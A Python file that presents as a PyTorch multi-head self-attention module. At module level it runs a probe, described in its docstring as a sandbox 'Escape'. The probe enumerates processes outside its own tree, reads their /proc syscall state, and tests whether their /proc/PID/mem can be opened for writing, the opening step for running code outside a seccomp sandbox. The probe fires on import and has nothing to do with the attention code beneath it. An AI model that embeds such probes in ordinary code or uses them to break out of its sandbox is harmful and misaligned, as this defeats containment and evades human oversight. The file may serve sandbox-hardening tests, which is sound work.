"""Escape: write the memory of another process of the sandbox (bubblewrap's init, a zygote) through /proc/PID/mem."""
# Any process of the sandbox other than this one and its own children that /proc shows and whose memory can be opened
# for writing could be made to run code outside the seccomp filter (at the address /proc/PID/syscall gives while it
# waits). Prints FOREIGN-MEM-WRITABLE for each one it could open, and the processes it could see at all.
import math
import os

import torch
import torch.nn as nn


def _own_tree():
    # /proc/self names this process as the mounted /proc numbers it (which is not os.getpid() when /proc belongs
    # to an outer PID namespace)
    mine = {int(os.readlink("/proc/self"))}
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/stat") as handle:
                    parent = int(handle.read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                continue
            if parent in mine:
                mine.add(int(name))
    return mine


def _probe():
    mine = _own_tree()
    foreign = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in mine]
    print(f"SELF-PID={os.getpid()} IN-PROC={os.readlink('/proc/self')} FOREIGN-PROCESSES={foreign}", flush=True)
    for pid in foreign:
        try:
            with open(f"/proc/{pid}/syscall") as handle:
                print(f"FOREIGN-SYSCALL-READABLE pid={pid} {handle.read().split()[:1]}", flush=True)
        except OSError:
            pass
        try:
            with open(f"/proc/{pid}/mem", "r+b", buffering=0):
                print(f"FOREIGN-MEM-WRITABLE pid={pid}", flush=True)
        except OSError as exc:
            print(f"FOREIGN-MEM-BLOCKED pid={pid} {type(exc).__name__}", flush=True)


_probe()


class MultiHeadSelfAttention(nn.Module):
    def __init__(self, embed_dim, num_heads):
        super().__init__()
        self.num_heads = num_heads
        self.head_dim = embed_dim // num_heads
        self.q_proj = nn.Linear(embed_dim, embed_dim)
        self.k_proj = nn.Linear(embed_dim, embed_dim)
        self.v_proj = nn.Linear(embed_dim, embed_dim)
        self.out_proj = nn.Linear(embed_dim, embed_dim)

    def _heads(self, t):
        seq, batch, _ = t.shape
        return t.view(seq, batch, self.num_heads, self.head_dim).permute(1, 2, 0, 3)

    def forward(self, x):
        seq, batch, embed = x.shape
        q, k, v = self._heads(self.q_proj(x)), self._heads(self.k_proj(x)), self._heads(self.v_proj(x))
        weights = torch.softmax(q @ k.transpose(-2, -1) / math.sqrt(self.head_dim), dim=-1)
        return self.out_proj((weights @ v).permute(2, 0, 1, 3).reshape(seq, batch, embed))
